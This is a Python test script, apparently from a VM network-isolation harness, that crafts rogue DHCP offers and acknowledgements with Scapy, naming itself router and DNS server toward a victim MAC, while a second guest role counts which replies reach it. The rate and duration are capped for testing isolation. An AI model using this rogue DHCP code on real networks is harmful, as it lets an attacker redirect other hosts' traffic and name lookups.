"""A guest that plays DHCP server on the shared network, and a guest that watches who answers it.

--role server: for --seconds, sends --rate rounds a second of unsolicited DHCPOFFER and DHCPACK
replies (from port 67 to 68, Ethernet broadcast and, with --victim-mac, unicast to it), offering
--offer with this guest as router and server, as a rogue DHCP server would; meanwhile it counts
the DHCP client messages (to port 67) of other guests that reach it. Prints
{"sent": N, "client_messages_seen": M, "source_mac": ...}.

--role watch: for --seconds, counts the DHCP replies (from port 67 to 68) that reach this guest, by
Ethernet source. Prints {"replies": N, "replies_from": "mac=count,..."}.

Both are bounded: at most 20 s, at most 100 rounds a second.

  ip netns exec NS /usr/bin/python3 dhcp_rogue.py --iface eth0 --role server --seconds 8 --rate 50 \
      --offer 192.168.64.200 --victim-mac 52:54:00:11:00:01
"""

import argparse
import time

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether

from hostile_link import BROADCAST_MAC, Link, mac_bytes, new_rng, print_result


def rogue_reply(src_mac, dst_mac, chaddr, xid, kind, offer, own_address):
    return (Ether(src=src_mac, dst=dst_mac) /
            IP(src=own_address, dst="255.255.255.255") /
            UDP(sport=67, dport=68) /
            BOOTP(op=2, htype=1, hlen=6, xid=xid, flags=0x8000, yiaddr=offer, siaddr=own_address,
                  chaddr=mac_bytes(chaddr) + b"\x00" * 10) /
            DHCP(options=[("message-type", kind), ("server_id", own_address), ("router", own_address),
                          ("name_server", own_address), ("subnet_mask", "255.255.255.0"), ("lease_time", 86400),
                          "end"]))


def serve(link, args):
    rng = new_rng()
    targets = [BROADCAST_MAC] + ([args.victim_mac] if args.victim_mac else [])
    chaddr = args.victim_mac or "52:54:00:00:00:01"
    sent = 0
    seen = 0
    deadline = time.monotonic() + min(args.seconds, 20.0)
    interval = 1.0 / max(1, min(args.rate, 100))
    while time.monotonic() < deadline:
        xid = rng.getrandbits(32)
        for dst in targets:
            for kind in ("offer", "ack"):
                link.send(rogue_reply(link.mac, dst, chaddr, xid, kind, args.offer, args.own_address))
                sent += 1
        # Listen until the next round: which client messages of other guests reach us?
        round_end = time.monotonic() + interval
        while True:
            remaining = round_end - time.monotonic()
            if remaining <= 0:
                break
            packet = link.receive(remaining)
            if packet is None or UDP not in packet or Ether not in packet:
                continue
            if packet[UDP].dport == 67 and packet[Ether].src.lower() != link.mac.lower():
                seen += 1
    print_result({"sent": sent, "client_messages_seen": seen, "source_mac": link.mac})


def watch(link, args):
    replies = {}
    deadline = time.monotonic() + min(args.seconds, 20.0)
    while True:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            break
        packet = link.receive(remaining)
        if packet is None or UDP not in packet or Ether not in packet or BOOTP not in packet:
            continue
        if packet[UDP].sport == 67 and packet[UDP].dport == 68 and packet[BOOTP].op == 2:
            source = packet[Ether].src.lower()
            replies[source] = replies.get(source, 0) + 1
    print_result({"replies": sum(replies.values()),
                  "replies_from": ",".join(f"{mac}={count}" for mac, count in sorted(replies.items()))})


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--role", choices=["server", "watch"], required=True)
    parser.add_argument("--seconds", type=float, default=8.0)
    parser.add_argument("--rate", type=int, default=50, help="rounds a second (server), at most 100")
    parser.add_argument("--offer", default="192.168.64.200")
    parser.add_argument("--own-address", default="192.168.64.250")
    parser.add_argument("--victim-mac")
    parser.add_argument("--ready-file", help="created once the link listens, so a caller can start what it watches")
    args = parser.parse_args()
    link = Link(args.iface)
    if args.ready_file:
        with open(args.ready_file, "w", encoding="ascii") as ready:
            ready.write("listening\n")
    try:
        serve(link, args) if args.role == "server" else watch(link, args)
    finally:
        link.close()


if __name__ == "__main__":
    main()
